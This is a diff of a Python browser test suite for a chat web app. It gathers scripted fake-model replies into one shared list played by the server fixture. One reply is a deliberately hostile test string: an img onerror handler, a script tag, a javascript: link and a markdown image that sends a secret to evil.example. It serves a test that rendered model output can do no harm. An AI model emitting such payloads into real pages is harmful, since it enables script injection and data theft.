@@ -11,14 +11,31 @@ from tests.journeys.web_visitor import PATIENCE_MS, PHONE, Visitor, visit
 
 pytestmark = pytest.mark.heavy
 
-# Every request whose text holds none of the others' words gets this.
-PLAIN = {"text": "As you say.", "repeat": True}
+STORY = [f"part{number} " for number in range(12)]
+HOSTILE = """**Bold** <img src=x onerror="document.title='taken'"> <script>taken = 1</script>
+![p](https://evil.example/p.png?q=secret) [bad](javascript:taken=1) [good](https://good.example/)
+
+```python
+print('hi')
+```"""
+REPLIES = (
+    {"when": "the long story", "text": STORY, "hold_after": 6},
+    {"when": "without end", "text": ["One ", "two ", "three ", "four "], "hang_after": 4},
+    {"when": "something hostile", "text": HOSTILE},
+    {
+        "when": "fail please",
+        "status": 400,
+        "error": {"type": "invalid_request_error", "message": "no such thing"},
+    },
+    {"text": "As you say.", "repeat": True},
+)
 
 
 @pytest.fixture(scope="module")
 def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WebServer]:
     build_web_app()
     with serve(tmp_path_factory.mktemp("chat") / "home") as running:
+        running.provider.play(*REPLIES)
         yield running
 
 
@@ -44,8 +61,6 @@ def hana(browser: Browser, server: WebServer, email: str) -> Iterator[Visitor]:
 
 
 def test_an_answer_goes_on_where_it_was_after_a_reload(hana: Visitor, server: WebServer):
-    pieces = [f"part{number} " for number in range(12)]
-    server.provider.play({"when": "the long story", "text": pieces, "hold_after": 6}, PLAIN)
     hana.write("Tell me the long story.")
     expect(hana.answer()).to_contain_text("part3", timeout=PATIENCE_MS)
     hana.page.reload()
@@ -54,16 +69,13 @@ def test_an_answer_goes_on_where_it_was_after_a_reload(hana: Visitor, server: We
     server.provider.go_on()
     hana.is_answered("part11")
     text = hana.answer().inner_text()
-    assert [text.count(piece.strip() + " ") for piece in pieces[:-1]] == [1] * 11
+    assert [text.count(piece.strip() + " ") for piece in STORY[:-1]] == [1] * 11
     hana.page.reload()
     hana.is_answered("part11")
     expect(hana.page.get_by_role("article")).to_have_count(2)
 
 
 def test_a_stopped_answer_keeps_what_was_said(hana: Visitor, server: WebServer):
-    server.provider.play(
-        {"when": "without end", "text": ["One ", "two ", "three ", "four "], "hang_after": 4}, PLAIN
-    )
     hana.write("Count without end.")
     expect(hana.answer()).to_contain_text("three", timeout=PATIENCE_MS)
     hana.page.keyboard.press("Escape")
@@ -76,7 +88,6 @@ def test_a_stopped_answer_keeps_what_was_said(hana: Visitor, server: WebServer):
 def test_what_was_said_before_is_remembered_in_another_conversation(
     hana: Visitor, server: WebServer
 ):
-    server.provider.play(PLAIN)
     hana.write("My sailing boat is called Marigold and lies in Gdynia.")
     hana.is_answered("As you say.")
     hana.page.get_by_role("link", name="New conversation").first.click()
@@ -92,12 +103,6 @@ def test_what_was_said_before_is_remembered_in_another_conversation(
 
 
 def test_what_a_model_writes_can_do_no_harm(hana: Visitor, server: WebServer):
-    hostile = (
-        "**Bold** <img src=x onerror=\"document.title='taken'\"> <script>taken = 1</script>\n"
-        "![p](https://evil.example/p.png?q=secret) [bad](javascript:taken=1) "
-        "[good](https://good.example/)\n\n```python\nprint('hi')\n```"
-    )
-    server.provider.play({"when": "something hostile", "text": hostile}, PLAIN)
     asked: list[str] = []
     hana.page.on("request", lambda request: asked.append(request.url))
     hana.write("Write something hostile.")
@@ -114,7 +119,6 @@ def test_what_a_model_writes_can_do_no_harm(hana: Visitor, server: WebServer):
 def test_conversations_are_named_pinned_found_archived_and_deleted(
     hana: Visitor, server: WebServer
 ):
-    server.provider.play(PLAIN)
     hana.write("The zebra paints a fence.")
     hana.is_answered("As you say.")
 
@@ -147,7 +151,6 @@ def test_conversations_are_named_pinned_found_archived_and_deleted(
 
 
 def test_a_message_is_changed_a_branch_made_an_answer_rated(hana: Visitor, server: WebServer):
-    server.provider.play(PLAIN)
     hana.write("First version of the question.")
     hana.is_answered("As you say.")
     before = hana.page.url
@@ -173,8 +176,6 @@ def test_a_message_is_changed_a_branch_made_an_answer_rated(hana: Visitor, serve
 def test_a_model_that_fails_is_told_in_words_and_can_be_asked_again(
     hana: Visitor, server: WebServer
 ):
-    refusal = {"type": "invalid_request_error", "message": "no such thing"}
-    server.provider.play({"when": "fail please", "status": 400, "error": refusal}, PLAIN)
     hana.expected = {400, 502, 503}
     hana.write("Now fail please.")
     alert = hana.page.get_by_role("alert")
@@ -184,7 +185,6 @@ def test_a_model_that_fails_is_told_in_words_and_can_be_asked_again(
 
 
 def test_everything_can_be_done_with_the_keyboard(hana: Visitor, server: WebServer):
-    server.provider.play(PLAIN)
     keyboard = hana.page.keyboard
     keyboard.type("A question,")
     keyboard.press("Shift+Enter")
@@ -215,7 +215,6 @@ def test_everything_can_be_done_with_the_keyboard(hana: Visitor, server: WebServ
 
 
 def test_on_a_phone_the_list_is_a_drawer(browser: Browser, server: WebServer, email: str):
-    server.provider.play(PLAIN)
     with visit(browser, server, size=PHONE) as hana:
         hana.sign_in(email)
         hana.write("From my phone.")
